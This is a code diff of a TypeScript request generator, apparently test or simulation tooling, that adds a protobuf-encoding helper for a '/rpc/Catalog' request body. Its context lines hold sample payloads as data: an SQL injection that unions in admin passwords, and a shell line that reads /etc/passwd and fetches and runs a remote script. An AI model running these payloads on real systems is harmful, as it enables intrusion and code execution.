@@ -53,6 +53,12 @@ function article(draw: Draw): string {
   ]);
 }
 
+/** A text in field 1, a number in field 2. */
+function protobuf(text: string, number: number): string {
+  const bytes = Buffer.from(text, 'utf8');
+  return `\x0a${String.fromCharCode(bytes.length)}${text}\x10${String.fromCharCode(number)}`;
+}
+
 const SNIPPETS = [
   "```sql\nSELECT name FROM users WHERE id = 1 OR name = 'x' UNION SELECT password FROM admins;\n```",
   '```sh\ncat /etc/passwd | grep root; wget http://mirror.example/x.sh && bash x.sh\n```',
@@ -83,7 +89,7 @@ const KINDS: readonly (readonly [share: number, make: (draw: Draw) => Ask])[] = 
       path: '/rpc/Catalog',
       method: 'POST',
       headers: { 'Content-Type': 'application/x-protobuf' },
-      body: `\x0a\x06${draw.words(1)}\x10${draw.number(9)}`,
+      body: protobuf(draw.words(1), draw.number(9)),
     }),
   ],
   [
